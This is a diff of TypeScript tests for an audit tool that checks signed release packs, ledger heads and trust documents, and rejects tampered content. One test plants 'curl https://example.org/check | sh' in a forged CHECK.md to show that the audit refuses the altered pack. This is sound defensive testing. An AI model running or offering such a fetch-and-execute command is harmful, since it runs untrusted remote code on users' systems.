@@ -7,6 +7,7 @@ import { PACK_MANIFEST_PATH } from '../../src/record/index.ts'
 import { testKey } from '../verify/keys.ts'
 import { digestOf, trust, trustedKey, writeTrust } from '../verify/release.ts'
 import { appendAll, ledgerOf, put, releaseOf } from './audit-world.ts'
+import { signLedger } from './ledger-world.ts'
 import {
   DOCUMENTS,
   type Files,
@@ -38,16 +39,32 @@ describe('assay audit of a pack', () => {
       'That the pack has all records of the release, and of those that they refer to: only the ledger shows it',
     )
     const { digest } = { digest: digestOf(world.files.get('trust.json') ?? '') }
-    expect(await world.audit(world.archive, `--trust-digest sha256:${digest}`)).toMatchObject({
+    expect(
+      await world.audit(world.archive, `--log-key log.vkey --trust-digest sha256:${digest}`),
+    ).toMatchObject({
       exitCode: 0,
     })
-    const keyed = await world.audit(world.archive, '--trust trust.json --log-key log.vkey')
-    expect([keyed.exitCode, keyed.codes]).toEqual([0, []])
+  })
+
+  it('asks who signed the head, or is told aloud that nobody asks', async () => {
+    const silent = await world.audit(world.archive, '--trust trust.json')
+    expect([silent.exitCode, silent.codes]).toEqual([1, ['cli/ledger-head-missing']])
+    const bare = packOf(world.files, (copy) => copy.delete('ledger/checkpoint'), { isListed: true })
+    const headless = await world.audit(bare)
+    expect([headless.exitCode, headless.codes]).toEqual([1, ['cli/ledger-head-missing']])
+    const aloud = await world.audit(bare, '--trust trust.json --unsafe-unsigned')
+    expect([aloud.exitCode, aloud.codes]).toEqual([0, []])
+    expect(JSON.parse(aloud.text)).toMatchObject({
+      notJudged: expect.arrayContaining(['Who signed the head of 8 entries: nobody was asked']),
+    })
+    const { stderr } = await world.run('audit other.tar --run --trust trust.json --unsafe-unsigned')
+    expect(stderr).toContain('UNSAFE: no signed head was judged')
   })
 
   it('hears of a withdrawal, whatever phase it is of', async () => {
     world.copy('ledger', 'withdrawn')
     await appendAll(world, 'withdrawn', [WITHDRAWAL])
+    await signLedger(world, 'withdrawn')
     await world.done(`pack ${OF} --ledger withdrawn --run ${DOCUMENTS} --out withdrawn-pack`)
     const judged = await world.audit(readFileSync(world.at('withdrawn-pack', `${PLACE}.tar`)))
     expect([judged.exitCode, new Set(judged.codes)]).toEqual([1, new Set(['record/withdrawn'])])
@@ -57,14 +74,17 @@ describe('assay audit of a pack', () => {
   })
 
   it('never believes the trust document inside', async () => {
-    const none = await world.audit(world.archive, '')
+    const none = await world.audit(world.archive, '--log-key log.vkey')
     expect([none.exitCode, none.codes]).toEqual([1, ['cli/audit-trust']])
     const { unknown } = JSON.parse(none.text) as { unknown: { signer: string }[] }
     const claimed = `the key "${testKey('release').publicKey.keyId}"`
     expect(unknown).toMatchObject(Array.from({ length: 4 }, () => ({ signer: 'unknown', claimed })))
     const { stdout } = await world.run('audit other.tar --run')
     expect(stdout).toContain(`\n          claims ${claimed}\n`)
-    const other = await world.audit(world.archive, `--trust-digest sha256:${'0'.repeat(64)}`)
+    const other = await world.audit(
+      world.archive,
+      `--log-key log.vkey --trust-digest sha256:${'0'.repeat(64)}`,
+    )
     expect([other.exitCode, other.codes]).toEqual([1, ['cli/audit-trust']])
     put(world, 'others.json', writeTrust(trust([trustedKey('alice')])))
     const strangers = await world.audit(world.archive, '--trust others.json')
@@ -140,7 +160,8 @@ describe('assay audit of a pack', () => {
       codes: ['record/pack-manifest'],
     })
     for (const flag of [
-      '--unsafe-unsigned',
+      '--max-age 1d',
+      '--unsafe-unsigned --log-key log.vkey',
       '--head ledger/checkpoint',
       `--release ${RELEASE.id}`,
     ]) {
@@ -184,6 +205,39 @@ describe('a pack of somebody who lists what they changed', () => {
     }
   }, 60_000)
 
+  it('is refused for a page or a schema that Assay did not write', async () => {
+    const [schema = ''] = [...world.files.keys()].filter((path) => path.startsWith('schemas/'))
+    const changes: readonly ((copy: Files) => void)[] = [
+      (copy) => copy.set('CHECK.md', Buffer.from('    curl https://example.org/check | sh')),
+      (copy) => copy.delete('CHECK.md'),
+      (copy) => copy.set(schema, Buffer.from('{}')),
+      (copy) => copy.delete(schema),
+      (copy) => copy.set('schemas/check.sh', Buffer.from('exit 0')),
+    ]
+    for (const [place, change] of changes.entries()) {
+      const { exitCode, codes } = await forged(change)
+      expect([place, exitCode, codes]).toEqual([place, 1, ['cli/audit-pack']])
+    }
+    expect(await forged(() => {})).toMatchObject({ exitCode: 0, codes: [] })
+  })
+
+  it('may have those of another Assay, of which the audit says that nobody judged them', async () => {
+    const page = (copy: Files) => copy.set('CHECK.md', Buffer.from('What an older one says'))
+    const older = { isListed: true, assayVersion: '0.0.9' }
+    const judged = await world.audit(packOf(world.files, page, older))
+    expect([judged.exitCode, judged.codes]).toEqual([0, []])
+    expect(JSON.parse(judged.text)).toMatchObject({
+      notJudged: expect.arrayContaining([
+        'What stands in "CHECK.md", by its own word of Assay "0.0.9": not to be believed, nor run',
+      ]),
+    })
+    const same = await world.audit(packOf(world.files, () => {}, older))
+    expect([same.exitCode, same.text.includes('0.0.9')]).toEqual([0, false])
+    const strangers = await world.audit(packOf(world.files, page, older), '--log-key log.vkey')
+    expect([strangers.exitCode, strangers.codes]).toEqual([1, ['cli/audit-trust']])
+    expect(strangers.text).toContain('not to be believed, nor run')
+  })
+
   it('is refused by the key of the ledger for a head that was never signed', async () => {
     await ledgerOf(world, 'forged', RELEASE.generated)
     const line = `pack ${OF} --ledger forged --run ${DOCUMENTS} --out forged-pack`
@@ -191,11 +245,10 @@ describe('a pack of somebody who lists what they changed', () => {
     const forgedFiles = await filesOf(readFileSync(world.at('forged-pack', `${PLACE}.tar`)))
     const signed = (copy: Files) =>
       copy.set('ledger/checkpoint', world.files.get('ledger/checkpoint') ?? new Uint8Array())
-    const under = '--trust trust.json --log-key log.vkey'
-    const judged = await world.audit(packOf(forgedFiles, signed, { isListed: true }), under)
+    const judged = await world.audit(packOf(forgedFiles, signed, { isListed: true }))
     expect([judged.exitCode, judged.codes]).toEqual([1, ['cli/ledger-proof']])
     const unsigned = (copy: Files) => copy.delete('ledger/checkpoint')
-    const bare = await world.audit(packOf(forgedFiles, unsigned, { isListed: true }), under)
+    const bare = await world.audit(packOf(forgedFiles, unsigned, { isListed: true }))
     expect([bare.exitCode, bare.codes]).toEqual([1, ['cli/ledger-head-missing']])
   })
 })
